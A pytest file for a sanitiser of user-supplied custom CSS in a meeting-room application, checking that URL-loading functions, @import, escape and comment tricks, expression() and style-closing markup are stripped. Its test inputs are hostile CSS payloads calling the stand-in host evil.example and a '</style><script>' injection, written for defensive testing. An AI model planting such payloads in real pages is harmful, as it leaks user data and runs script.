"""Custom CSS from join's userdata, made harmless: what survives and what never can.

A custom style may change how the room looks; it must never make the browser fetch anything (an
image URL in a rule is enough to send what a selector matched to a foreign server) or run script.
"""

from __future__ import annotations

import re

import pytest

from sala.room.css import MAX_CSS_CHARS, sanitize

# Anything the browser would read as a function that loads a URL, after sanitising.
LOADS = re.compile(r"(url|image-set|image|src|expression)\s*\(", re.IGNORECASE)


def loads_something(css: str) -> bool:
    """True when the CSS still holds a way to fetch: @import, or a URL function whose target is
    not a data: URL (which needs no network)."""
    if re.search(r"@import|@namespace", css, re.IGNORECASE):
        return True
    for found in LOADS.finditer(css):
        rest = css[found.end() :]
        if not (found.group(1).lower() == "url" and re.match(r"[ \t\n]*[\"']?data:", rest, re.I)):
            return True
    return False


def test_ordinary_rules_are_kept_as_written() -> None:
    css = (
        ":root { --accent: #123456; }\n"
        '#meeting-name::after { content: "*"; color: rgb(1, 2, 3) }\n'
        ".users > li:hover { font-weight: 700 }\n"
        "@media (max-width: 800px) { .chat { display: none } }"
    )
    assert sanitize(css) == css


def test_data_urls_stay_and_every_other_url_goes() -> None:
    image = 'url("data:image/png;base64,iVBORw0KGgo=")'
    out = sanitize(
        f"body {{ background: {image} }}\n"
        ".a { background: url(https://evil.example/leak?x) }\n"
        ".b { background: URL( 'https://evil.example/x' ) }\n"
        ".c { background: url(/room/static/room.css) }\n"
        ".d { cursor: url(//evil.example/c), auto }"
    )
    assert image in out
    assert not loads_something(out)


@pytest.mark.parametrize(
    "css",
    [
        "@import url(https://evil.example/x.css);",
        '@IMPORT "https://evil.example/x.css";',
        "@import'https://evil.example/x.css';",
        "@namespace svg url(https://evil.example/ns);",
        "a { background: u\\72 l(https://evil.example/a) }",
        "a { background: \\75rl(https://evil.example/a) }",
        "a { background: u/**/rl(https://evil.example/a) }",
        "a { background: url(/**/https://evil.example/a) }",
        'a { background: url( "data:x" ), url(https://evil.example/b) }',
        'a { content: "/*"; background: url(https://evil.example/c) } /* */',
        "a { background-image: image-set('https://evil.example/d.png' 1x) }",
        'a { background-image: -webkit-image-set("https://evil.example/e.png" 1x) }',
        "a { background-image: image('https://evil.example/f.png') }",
        "@font-face { font-family: x; src: src('https://evil.example/f.woff') }",
        "a { width: expression(alert(1)) }",
        "a { background: url(\x00https://evil.example/g) }",
        "a { background: url(\fdata:,x) url(https://evil.example/h) }",
        "a { background: url(\u00a0data:x) }",
    ],
)
def test_nothing_can_be_fetched(css: str) -> None:
    out = sanitize(css)
    assert not loads_something(out), out
    assert "\\" not in out


def test_markup_cannot_close_anything() -> None:
    out = sanitize(
        '#x { color: red } </style><script>window.pwned = 1</script><img src=x onerror="1">'
    )
    assert "<" not in out
    assert "#x { color: red }" in out


def test_legacy_script_properties_are_neutralised() -> None:
    out = sanitize("a { behavior: url(x.htc); -moz-binding: url(x.xml#b) } b { color: red }")
    assert not re.search(r"behavior\s*:|-moz-binding\s*:", out, re.IGNORECASE)
    assert "b { color: red }" in out


def test_too_large_a_style_is_dropped_whole() -> None:
    rule = "a { color: red }\n"
    fits = rule * (MAX_CSS_CHARS // len(rule))
    assert sanitize(fits) == fits
    assert sanitize(fits + rule) == ""
